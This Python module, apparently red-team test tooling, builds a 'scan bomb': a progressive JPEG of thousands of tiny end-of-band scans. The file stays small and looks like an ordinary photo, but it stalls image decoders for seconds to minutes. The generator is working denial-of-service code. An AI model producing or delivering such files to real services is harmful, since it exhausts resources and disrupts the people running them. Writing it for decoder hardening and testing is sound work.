"""A progressive JPEG built of many tiny scans (red-team report 2026-12-05, H4).

Each scan is another pass of the decoder over every 8×8 block of the picture, so a few
thousand scans of end-of-band runs (68 bytes each) freeze any decoder for seconds to
minutes while the file stays a few hundred KB and its header looks like any photo's."""

from __future__ import annotations

import struct
from pathlib import Path


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


class _Bits:
    def __init__(self) -> None:
        self.acc = self.count = 0
        self.out = bytearray()

    def put(self, value: int, bits: int) -> None:
        for i in range(bits - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.count += 1
            if self.count == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)  # byte stuffing
                self.acc = self.count = 0

    def flush(self) -> bytes:
        while self.count:
            self.put(1, 1)
        return bytes(self.out)


def scan_bomb(path: Path, scans: int, side: int = 6320) -> Path:
    """A side×side greyscale progressive JPEG: one DC scan, then `scans` AC scans."""
    blocks = ((side + 7) // 8) ** 2
    data = bytearray(b"\xff\xd8") + _segment(0xDB, b"\0" + bytes([1] * 64))
    data += _segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + bytes([1, 0x11, 0]))
    data += _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")  # DC: one code
    data += _segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15)))  # AC: EOB runs
    bits = _Bits()
    for _ in range(blocks):
        bits.put(0, 1)
    data += _segment(0xDA, bytes([1, 1, 0, 0, 0, 0])) + bits.flush()  # the DC scan
    bits = _Bits()
    left = blocks
    while left:
        run = min(left, 32767)
        size = run.bit_length() - 1
        bits.put(size, 4)
        bits.put(run - (1 << size), size)
        left -= run
    scan = _segment(0xDA, bytes([1, 1, 0, 1, 63, 0])) + bits.flush()  # an AC scan: end-of-band runs only
    path.write_bytes(bytes(data) + scan * scans + b"\xff\xd9")
    return path
